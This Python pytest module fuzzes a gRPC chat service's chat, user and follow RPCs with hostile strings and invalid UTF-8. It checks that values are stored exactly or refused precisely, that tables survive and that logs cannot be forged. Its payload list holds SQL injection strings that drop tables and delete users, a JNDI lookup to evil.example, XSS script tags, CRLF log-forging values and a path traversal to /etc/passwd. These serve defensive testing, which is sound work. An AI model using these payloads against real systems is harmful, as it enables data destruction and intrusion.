"""Injection matrix: hostile strings in every string field of every request of every chat,
user and follow RPC, streams included. The fields are enumerated from the generated
descriptors, so a new field is covered without touching this file (a new RPC needs a base
request in BASE, and the test says so).

Each call either stores the value exactly (read back through the API) or refuses it with a
precise status; never INTERNAL, UNKNOWN or a hang. The server stays healthy, the tables stay
whole, and no value forges a line in chatd's logfmt output (it runs at trace level here)."""

from __future__ import annotations

import uuid

import grpc
import pytest
from google.protobuf import message_factory
from google.protobuf.descriptor import FieldDescriptor

from chatd_interop import protos
from chatd_interop.server import ChatdProcess, chatd_binary
from chatd_interop.tokens import bearer
from chatd_interop.users import User

SERVICES = ("chat.v1.ChatService", "social.v1.UserService", "social.v1.FollowService")

FORGED = "level=error msg=forged"

HOSTILE = {
    "sql-drop": "'; DROP TABLE messages; --",
    "sql-or": "' OR '1'='1",
    "sql-or-nospace": "'OR'1'='1'--",
    "pg-placeholder": "$1",
    "pg-dollar-quote": "$$; DELETE FROM users; $$",
    "backslashes": "\\'\\\"\\\\ \\x00 \\n \\\\\\",
    "nul": "a\x00b",
    "long": "A" * 100_000,
    "rtl-override": "\u202eevil\u202c.exe",
    "zero-width": "a\u200bb\u200cc\u200dd\ufeff",
    "emoji-zwj": "\U0001F469\u200d\U0001F469\u200d\U0001F467\u200d\U0001F466",
    "many-graphemes": "\U0001F469\u200d\U0001F469\u200d\U0001F467\u200d\U0001F466" * 1000,
    "decomposed": "e\u0301",  # must come back decomposed, not normalized to "é"
    "format": "%s %n %x %d %%",
    "jndi": "${jndi:ldap://evil.example/a}",
    "html": "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "log-lf": "\n" + FORGED,
    "log-crlf": "x\r\n" + FORGED,
    "log-cr": "x\r" + FORGED,
    "log-u2028": "x\u2028" + FORGED,
    "ansi": "\x1b[2J\x1b[31mred",
    "like-wildcards": "%_%",
    "path": "../../../../etc/passwd",
}

# Refusals that say what is wrong with the request. INTERNAL, UNKNOWN, UNAVAILABLE and
# DEADLINE_EXCEEDED mean the value reached somewhere it should not have.
PRECISE = {grpc.StatusCode.INVALID_ARGUMENT, grpc.StatusCode.NOT_FOUND,
           grpc.StatusCode.PERMISSION_DENIED, grpc.StatusCode.FAILED_PRECONDITION,
           grpc.StatusCode.ALREADY_EXISTS}


def M(name, **fields):
    return protos.message(name)(**fields)


def methods():
    """(service, method descriptor) for every RPC of the chat, user and follow services."""
    return [(s, m) for s in SERVICES for m in protos.service(s).methods]


def string_fields(descriptor, prefix=""):
    """Dotted paths of every string field of a message type, nested messages included."""
    paths = []
    for field in descriptor.fields:
        path = prefix + field.name
        if field.type == FieldDescriptor.TYPE_STRING:
            paths.append(path)
        elif field.type == FieldDescriptor.TYPE_MESSAGE and \
                not field.message_type.full_name.startswith("google.protobuf."):
            paths += string_fields(field.message_type, path + ".")
    return paths


def set_field(request, path: str, value: str) -> None:
    *parents, name = path.split(".")
    target = request
    for parent in parents:
        target = getattr(target, parent)
    field = target.DESCRIPTOR.fields_by_name[name]
    if field.is_repeated:
        del getattr(target, name)[:]
        getattr(target, name).append(value)
    else:
        setattr(target, name, value)


@pytest.fixture(scope="module")
def server(tmp_path_factory):
    """Rate limits off (hundreds of calls from one user), trace logging (the most lines)."""
    chatd = ChatdProcess(chatd_binary(), tmp_path_factory.mktemp("chatd-injection"),
                         extra_args=("--rate-limit", "off", "--log-level", "trace"))
    chatd.start()
    yield chatd
    chatd.stop()


@pytest.fixture(scope="module")
def world(server):
    """The attacker (owner of a group with a member and a message), the member, a service
    principal, and a stranger whose room holds words the hostile strings contain."""
    channel = server.open_channel()
    attacker, member, stranger = User(channel, "Mallory"), User(channel, "Bob"), \
        User(channel, "Stranger")
    service = User(channel, "Indexer", role="service")
    for user in (attacker, member, stranger, service):
        user.me()
    group = attacker.chat.CreateGroup(M("chat.v1.CreateGroupRequest", title="Injection",
                                        member_user_ids=[member.id]))
    message = attacker.chat.SendMessage(M("chat.v1.SendMessageRequest", room_id=group.id,
                                          client_msg_id="base", body="base message"))
    secret_room = stranger.chat.CreateGroup(M("chat.v1.CreateGroupRequest", title="Private"))
    stranger.chat.SendMessage(M("chat.v1.SendMessageRequest", room_id=secret_room.id,
                                client_msg_id="secret",
                                body="1 drop table messages or evil script alert jndi x s n"))
    yield dict(channel=channel, attacker=attacker, member=member, stranger=stranger,
               service=service, group=group.id, message=message.id,
               secret_room=secret_room.id)
    channel.close()


# A valid request per RPC (one hostile field is set on top of it), and who calls it.
BASE = {
    "StartChat": lambda w: dict(peer_user_id=w["member"].id),
    "CreateGroup": lambda w: dict(title="t", member_user_ids=[w["member"].id]),
    "AddMembers": lambda w: dict(room_id=w["group"], user_ids=[w["member"].id]),
    "RemoveMember": lambda w: dict(room_id=w["group"], user_id=w["stranger"].id),
    "UpdateRoom": lambda w: dict(room_id=w["group"]),
    "UpdateMembership": lambda w: dict(room_id=w["group"], muted=False),
    "GetRoom": lambda w: dict(room_id=w["group"]),
    "ListRooms": lambda w: dict(),
    "SendMessage": lambda w: dict(room_id=w["group"], client_msg_id=uuid.uuid4().hex,
                                  body="b"),
    "GetMessages": lambda w: dict(room_id=w["group"]),
    "EditMessage": lambda w: dict(message_id=w["message"], body="edited"),
    "DeleteMessage": lambda w: dict(message_id=w["message"]),
    "AddReaction": lambda w: dict(message_id=w["message"], emoji="\U0001F44D"),
    "RemoveReaction": lambda w: dict(message_id=w["message"], emoji="\U0001F44D"),
    "MarkRead": lambda w: dict(room_id=w["group"]),
    "SendTyping": lambda w: dict(room_id=w["group"], typing=True),
    "SearchMessages": lambda w: dict(query="base"),
    "SubscribeRoom": lambda w: dict(room_id=w["group"]),
    "SubscribeUser": lambda w: dict(),
    "SubscribeAllRooms": lambda w: dict(),
    "GetMe": lambda w: dict(),
    "UpdateMe": lambda w: dict(),
    "GetUser": lambda w: dict(user_id=w["member"].id),
    "DeleteUser": lambda w: dict(user_id=w["member"].id),
    "ListNotifications": lambda w: dict(),
    "MarkNotificationsRead": lambda w: dict(),
    "Follow": lambda w: dict(user_id=w["member"].id),
    "Unfollow": lambda w: dict(user_id=w["member"].id),
    "GetRelationship": lambda w: dict(user_id=w["member"].id),
    "ListFollowers": lambda w: dict(user_id=w["member"].id),
    "ListFollowing": lambda w: dict(user_id=w["member"].id),
}
SERVICE_ROLE = {"SubscribeAllRooms"}


def call(world, service, method, request):
    """(code, response or details): a unary call, or a stream's first message."""
    user = world["service" if method.name in SERVICE_ROLE else "attacker"]
    path = f"/{service}/{method.name}"
    response_class = message_factory.GetMessageClass(method.output_type)
    serializer = (lambda r: r) if isinstance(request, bytes) else \
        type(request).SerializeToString
    try:
        if method.server_streaming:
            stream = world["channel"].unary_stream(
                path, request_serializer=serializer,
                response_deserializer=response_class.FromString)(
                    request, metadata=bearer(user.token), timeout=10)
            try:
                return grpc.StatusCode.OK, next(stream)
            finally:
                stream.cancel()
        return grpc.StatusCode.OK, world["channel"].unary_unary(
            path, request_serializer=serializer,
            response_deserializer=response_class.FromString)(
                request, metadata=bearer(user.token), timeout=10)
    except grpc.RpcError as error:
        return error.code(), error.details()


# --- read-backs: an accepted value must come back exactly ---------------------------------

def get_room(w, room_id):
    return w["attacker"].chat.GetRoom(M("chat.v1.GetRoomRequest", room_id=room_id)).room


def history(w):
    return w["attacker"].chat.GetMessages(
        M("chat.v1.GetMessagesRequest", room_id=w["group"], limit=200)).messages


def members(w):
    return sorted(m.user.id for m in get_room(w, w["group"]).members)


def readback(w, method: str, field: str, value: str, response) -> None:
    """Asserts that what an accepted call stored is `value`, byte for byte."""
    key = (method, field)
    if key == ("SendMessage", "body"):
        assert response.body == value
        assert [m.body for m in history(w) if m.id == response.id] == [value]
    elif key == ("SendMessage", "client_msg_id"):
        assert response.client_msg_id == value
        assert [m.client_msg_id for m in history(w) if m.id == response.id] == [value]
    elif key == ("EditMessage", "body"):
        assert response.body == value
        assert [m.body for m in history(w) if m.id == w["message"]] == [value]
    elif key in (("CreateGroup", "title"), ("UpdateRoom", "title")):
        # Titles and display names are stored trimmed of surrounding whitespace
        # (docs/services.md); nothing else about them changes.
        assert response.title == value.strip()
        assert get_room(w, response.id).title == value.strip()
    elif key in (("UpdateMe", "display_name"), ("UpdateMe", "avatar_url")):
        stored = value.strip() if field == "display_name" else value
        assert getattr(response, field) == stored
        seen = w["member"].users.GetUser(M("social.v1.GetUserRequest", user_id=w["attacker"].id))
        assert getattr(seen, field) == stored
    elif key == ("GetRelationship", "user_id"):
        # A well-formed id of nobody: no relationship, and the id comes back as sent.
        assert response.user_id == value
        assert not response.following and not response.followed_by
    elif key == ("AddReaction", "emoji"):
        assert value in [r.emoji for r in response.reactions if r.reacted_by_me]
    elif key == ("RemoveReaction", "emoji"):
        assert value not in [r.emoji for r in response.reactions if r.reacted_by_me]
    elif key == ("SearchMessages", "query"):
        # websearch_to_tsquery reads OR and quotes as operators: whatever matches must still
        # lie in the caller's rooms only.
        assert all(m.room_id != w["secret_room"] for m in response.messages)
    elif key == ("RemoveMember", "user_id"):
        assert value not in members(w)  # a user id that is no member: nothing removed
        assert w["member"].id in members(w)
    elif key in (("Unfollow", "user_id"),):
        assert not response.changed
    else:
        raise AssertionError(f"{method}.{field} accepted {value!r} but the test has no "
                             "read-back for it: add one to readback()")


def cases():
    return [(s, m, f) for s, m in methods() for f in string_fields(m.input_type)]


def test_every_rpc_has_a_base_request():
    missing = [m.name for _, m in methods() if m.name not in BASE]
    assert not missing, f"add a base request to BASE for {missing}"
    assert len(cases()) >= 40  # the descriptors were found (about 45 string fields today)


def test_hostile_strings_are_stored_exactly_or_refused_precisely(server, world):
    outcomes: dict[str, int] = {}
    wrong = []
    for service, method, field in cases():
        for label, value in HOSTILE.items():
            request = M(method.input_type.full_name, **BASE[method.name](world))
            set_field(request, field, value)
            code, result = call(world, service, method, request)
            outcomes[code.name] = outcomes.get(code.name, 0) + 1
            where = f"{method.name}.{field} <- {label}"
            if code == grpc.StatusCode.OK:
                try:
                    readback(world, method.name, field, value, result)
                except AssertionError as error:
                    wrong.append(f"{where}: accepted, but {error}")
            elif code not in PRECISE:
                wrong.append(f"{where}: {code.name} {result}")
    assert not wrong, "\n".join(wrong)
    print("outcomes:", outcomes)
    server.assert_serving()
    # The tables the SQL strings name are still there and still hold the base message.
    assert world["message"] in [m.id for m in history(world)]


def _varint(value: int) -> bytes:
    out = b""
    while value >= 0x80:
        out += bytes([value & 0x7F | 0x80])
        value >>= 7
    return out + bytes([value])


INVALID_UTF8 = {
    "stray-byte": b"a\xffb",
    "truncated": b"ab\xc3",
    "overlong-slash": b"\xc0\xaf",
    "cesu-surrogate": b"\xed\xa0\x80",  # what a lone surrogate would encode to
    "past-10ffff": b"\xf4\x90\x80\x80",
}


def test_python_clients_cannot_send_lone_surrogates():
    """protobuf's Python runtime refuses to encode a lone surrogate: a grpcio client cannot
    send one. The bytes it would become are sent raw below instead."""
    with pytest.raises((UnicodeEncodeError, ValueError)):
        M("chat.v1.SendMessageRequest", body="a\ud800b").SerializeToString()


def test_invalid_utf8_in_every_string_field_is_invalid_argument(server, world):
    """Raw wire bytes (a client in another language, or a hand-written one): every string
    field gets invalid UTF-8 on top of a valid request (the last value of a field wins)."""
    wrong = []
    for service, method, field in cases():
        if "." in field:
            continue  # no nested string fields in requests today
        number = method.input_type.fields_by_name[field].number
        for label, payload in INVALID_UTF8.items():
            base = M(method.input_type.full_name, **BASE[method.name](world))
            raw = base.SerializeToString() + _varint((number << 3) | 2) + \
                _varint(len(payload)) + payload
            code, details = call(world, service, method, raw)
            if code != grpc.StatusCode.INVALID_ARGUMENT or "UTF-8" not in details:
                wrong.append(f"{method.name}.{field} <- {label}: {code.name} {details!r:.200}")
    assert not wrong, "\n".join(wrong)
    server.assert_serving()


def test_no_value_forged_a_log_line(server, world):
    """Runs last in this module: every line chatd wrote starts with ts=, whichever way it is
    split (CR, LF, U+2028 and the other separators Python's splitlines knows)."""
    text = server.log_path.read_text(encoding="utf-8", errors="replace")
    assert "msg=rpc" in text  # trace level: the access log is there
    lines = text.splitlines()
    forged = [line for line in lines if not line.startswith("ts=")]
    assert not forged, forged[:5]
    assert not any(line.lstrip().startswith(FORGED) for line in lines)
